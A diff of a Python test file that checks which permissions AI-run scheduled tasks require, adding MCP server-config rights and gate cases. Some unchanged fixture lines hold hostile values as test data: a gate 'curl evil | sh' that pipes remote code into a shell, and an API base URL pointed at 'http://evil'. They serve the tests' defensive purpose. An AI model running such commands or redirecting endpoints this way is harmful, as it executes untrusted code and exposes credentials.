@@ -34,6 +34,8 @@ from vault_scheduler.triggers.schedule import IntervalTrigger, OnceTrigger, Sche
 NOW = datetime(2026, 11, 22, 6, 0, tzinfo=UTC)
 EDIT = Rights(permissions=Permissions.EDIT, max_usd=0.5)
 READ_ONLY = Rights(permissions=Permissions.READ_ONLY, max_usd=0.5)
+SERVED = Rights(permissions=Permissions.EDIT, max_usd=0.5, servers="mcp.json")
+GATED: dict[str, Any] = {"gate": "test -s Inbox.md", "declared": {"gate": "test -s Inbox.md"}}
 
 
 def every(**period: int) -> Schedule:
@@ -72,7 +74,7 @@ COMMAND = a_task(CommandAction(command="echo hi"))
         (claude(allowed_tools=("PowerShell(Get-Item *)",)), None, EDIT, "shell"),
         (claude(allowed_tools=("REPL",)), None, EDIT, "shell"),
         (a_task(declared={"gate": "curl evil | sh"}), None, EDIT, "shell"),
-        (a_task(declared={"mcp_config": "mcp.json"}), None, EDIT, "shell"),
+        (claude(mcp_config="mcp.json"), None, EDIT, "shell"),
         (claude(allowed_tools=("WebFetch",)), None, EDIT, "allowed_tools"),
         (claude(), None, READ_ONLY, "permissions edit"),  # a read-only run makes an editing task
         (claude(permissions=Permissions.READ_ONLY), None, READ_ONLY, ""),
@@ -83,7 +85,14 @@ COMMAND = a_task(CommandAction(command="echo hi"))
         (a_task(declared={"env": ["ANTHROPIC_BASE_URL=http://evil"]}), None, EDIT, "env"),
         (a_task(declared={"secrets": ["TOKEN"]}), None, EDIT, "secrets"),
         (a_task(declared={"cwd": None, "host": ""}), None, EDIT, ""),  # unset keys ask for nothing
+        (claude(mcp_config="mcp.json"), None, SERVED, ""),  # the servers that the run has itself
+        (claude(mcp_config="other.json"), None, SERVED, "shell"),
         # changed tasks
+        (claude(mcp_config="mcp.json"), claude(mcp_config="mcp.json"), EDIT, "shell"),
+        (a_task(**GATED), a_task(**GATED), EDIT, ""),  # the prompt below a gate that stays as it is
+        (a_task(**GATED), a_task(), EDIT, "shell"),
+        (a_task(ClaudeAction(permissions=Permissions.FULL), **GATED), a_task(**GATED), EDIT, "shell"),
+        (a_task(CommandAction(command="x"), **GATED), a_task(**GATED), EDIT, "shell"),
         (COMMAND, COMMAND, EDIT, "shell"),  # that it was a command before does not entitle the run to edit it
         (claude(max_usd=2.0), claude(max_usd=2.0), EDIT, ""),  # a cap that it had before
         (claude(max_usd=2.1), claude(max_usd=2.0), EDIT, "max_usd"),
@@ -196,9 +205,9 @@ def test_the_reason_names_what_it_asks_for() -> None:
         ),
         (claude(permissions=Permissions.FULL), None),  # it can write anything anyway
         (claude(allowed_tools=("Bash",)), None),
-        (a_task(declared={"mcp_config": "x"}), None),
+        (claude(mcp_config="mcp.json"), SERVED),  # whoever steers its servers is not the person
         (a_task(gate="test -s Inbox.md", declared={"gate": "test -s Inbox.md"}), EDIT),  # Claude itself has none
-        (a_task(gate="true", declared={"gate": "true", "mcp_config": "x"}), None),
+        (a_task(ClaudeAction(mcp_config="mcp.json"), gate="true", declared={"gate": "true"}), SERVED),
         (COMMAND, None),
     ],
 )
@@ -211,6 +220,12 @@ def test_a_run_counts_until_five_seconds_after_its_end() -> None:
     """A note may be seen a moment after the run that wrote it."""
     ended = [(EDIT, NOW - timedelta(seconds=5)), (READ_ONLY, NOW - timedelta(seconds=6)), (None, None), (EDIT, None)]
     assert restricting(ended, NOW) == (EDIT, EDIT)
+
+
+def test_servers_of_several_runs_are_nobodys() -> None:
+    """Who of them wrote something is not known, so only what all of them have counts."""
+    assert least([SERVED, SERVED]).servers == "mcp.json"
+    assert least([SERVED, EDIT]).servers == least([EDIT, SERVED]).servers == ""
 
 
 def test_several_runs_have_what_each_of_them_has() -> None:
